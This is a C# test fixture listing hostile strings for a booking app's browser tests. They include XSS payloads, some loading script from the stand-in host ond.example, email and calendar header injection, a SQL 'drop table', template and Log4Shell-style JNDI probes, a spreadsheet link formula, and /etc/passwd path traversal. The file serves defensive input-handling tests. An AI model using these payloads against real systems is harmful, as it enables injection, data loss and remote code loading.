namespace Handslaget.Booking.Web.Tests.Browser;

/// <summary>What somebody could write in a field to make it be more than text: in pages, headers, invitations, texts, queries and tables.</summary>
internal static class HostileTexts
{
    public const string Page = "<script>alert(1)</script><img src=https://ond.example/p.png onerror=alert(2)> & \"citat\" 'x'";
    public const string Header = "x\r\nBcc: ond@ond.example\r\nATTENDEE:mailto:ond@ond.example\r\nEND:VEVENT\r\nBEGIN:VEVENT";

    public static readonly IReadOnlyList<string> All =
    [
        // Elements and attributes.
        Page,
        "\"><svg onload=alert(3)>",
        "' onmouseover='alert(4)' x='",
        "</textarea><script>alert(5)</script>",
        "</title></style></script><script src=https://ond.example/x.js></script>",
        "<iframe src=javascript:alert(6)></iframe>",
        "<a href=\"javascript:alert(7)\">klicka</a>",
        "<scr<script>ipt>alert(8)</scr</script>ipt>",
        "<math><mtext></p><img src=x onerror=alert(9)>",
        "<!--><script>alert(10)</script-->",
        "<img src=x onerror=alert(11)",
        "&lt;script&gt;alert(12)&lt;/script&gt;",
        "\\u003cscript\\u003ealert(13)\\u003c/script\\u003e",
        "javascript:alert(14)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxNSk8L3NjcmlwdD4=",
        "<base href=https://ond.example/><link rel=stylesheet href=https://ond.example/x.css>",
        "<meta http-equiv=refresh content='0;url=https://ond.example/'>",
        "<form action=https://ond.example/><input name=kod>",

        // Headers and invitations.
        Header,
        "x%0d%0aBcc:ond@ond.example",
        "=?utf-8?q?=0D=0ABcc=3A_ond=40ond.example?=",
        "Åsa\u2028Bcc: ond@ond.example\u0085END:VCALENDAR",
        "x\\nATTENDEE:mailto:ond@ond.example;RSVP=TRUE,y\\;z",
        "\";CUTYPE=ROOM:mailto:ond@ond.example\r\n ,fortsatt",

        // Queries, templates, tables, formats.
        "'; drop table booking.mt_events; --",
        "$$; select pg_sleep(10); --\\",
        "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> @(7*7)",
        "${jndi:ldap://ond.example/a} %n%s%x {0} {0:C}",
        "=HYPERLINK(\"https://ond.example/\";\"klicka\")",

        // Letters that are more, or fewer, than they look.
        "\u202Eelpmaxe.dno//:sptth\u202C \u2066\u200B\uFEFF",
        "🧨👩‍👩‍👧‍👦 Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́O̵̹̻̝̳͂̌̌͘",
        "../../../../etc/passwd\u0001\u0007\u001B[31m",
    ];
}
